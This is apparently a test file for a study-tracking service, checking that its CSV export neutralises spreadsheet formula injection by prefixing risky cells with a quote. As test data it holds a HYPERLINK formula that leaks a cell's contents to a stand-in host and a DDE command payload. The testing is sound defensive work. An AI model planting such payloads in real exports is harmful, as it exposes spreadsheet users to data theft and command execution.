/**
 * CSV export does not inject formulas (issue 14, finding 8): a text cell that
 * a spreadsheet would read as a formula (leading =, +, -, @, tab or CR) is
 * exported with a leading single quote, as OWASP advises; numbers, negative
 * ones included, are exported as they are.
 */
import assert from "node:assert/strict";
// The harness first: it loads the routes, which extend zod with `.openapi` before the services use it.
import { describeOnBackends, newStudy } from "./support/harness.ts";
import { testBackends } from "./support/db.ts";
import { csvField } from "../src/services/export.ts";

/** Parses RFC 4180 CSV (quoted fields, doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') field += text[++i];
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") (row.push(field), field = "");
    else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(field), rows.push(row), row = [], field = "";
      i++;
    } else field += ch;
  }
  return rows;
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const CMD = "+cmd|' /C calc'!A0";

Deno.test("csvField prefixes formula-leading text with a single quote", () => {
  for (const text of ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "=", "-"]) {
    const cell = csvField(text);
    assert.ok(cell.startsWith("'") || cell.startsWith(`"'`), `${JSON.stringify(text)}: ${cell}`);
  }
  assert.equal(csvField("=1+2"), "'=1+2");
  assert.equal(csvField(HYPERLINK), `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
  // Numbers are numbers: left alone, as values and as text.
  assert.equal(csvField(-1.5), "-1.5");
  assert.equal(csvField("-1.5"), "-1.5");
  assert.equal(csvField("+3e-5"), "+3e-5");
  assert.equal(csvField("adam"), "adam");
  assert.equal(csvField(null), "");
});

describeOnBackends("hardening: CSV export", testBackends(), async (t, app) => {
  await t.step("clientId, categorical and reason cells starting a formula are quoted", async () => {
    const id = await newStudy(app, {
      space: {
        parameters: [
          { name: "x", type: "float", min: -5, max: 5 },
          { name: "op", type: "categorical", values: ["=1+2", "@SUM(A1)", "plain"] },
        ],
      },
    });
    const made = await app.request("POST", `/v1/studies/${id}/trials`, {
      params: { x: -2.5, op: "=1+2" },
      clientId: HYPERLINK,
      infeasible: true,
      reason: CMD,
    });
    assert.equal(made.status, 201, made.text);
    await app.expect(201, "POST", `/v1/studies/${id}/trials`, {
      params: { x: 1, op: "@SUM(A1)" },
      clientId: "-2+3",
      values: { value: -0.25 },
    });
    const csv = await app.request("GET", `/v1/studies/${id}/trials/export?format=csv`);
    assert.equal(csv.status, 200);
    const [header, first, second] = parseCsv(csv.text);
    const cell = (row: string[], name: string) => row[header.indexOf(name)];
    assert.equal(cell(first, "clientId"), `'${HYPERLINK}`);
    assert.equal(cell(first, "params.op"), "'=1+2");
    assert.equal(cell(first, "reason"), `'${CMD}`);
    assert.equal(cell(first, "params.x"), "-2.5", "a negative number stays a number");
    assert.equal(cell(second, "clientId"), "'-2+3");
    assert.equal(cell(second, "params.op"), "'@SUM(A1)");
    assert.equal(cell(second, "values.value"), "-0.25");
    for (const row of [header, first, second]) {
      for (const c of row) assert.ok(!/^[=+@\t\r]/.test(c), `a formula cell: ${c}`);
      for (const c of row) assert.ok(!/^-/.test(c) || /^-[\d.]+$/.test(c), `a formula: ${c}`);
    }
    // JSON Lines carries the values as they are.
    const jsonl = await app.request("GET", `/v1/studies/${id}/trials/export?format=jsonl`);
    const rows = jsonl.text.trim().split("\n").map((l) => JSON.parse(l));
    assert.equal(rows[0].clientId, HYPERLINK);
    assert.equal(rows[0].params.op, "=1+2");
  });
});
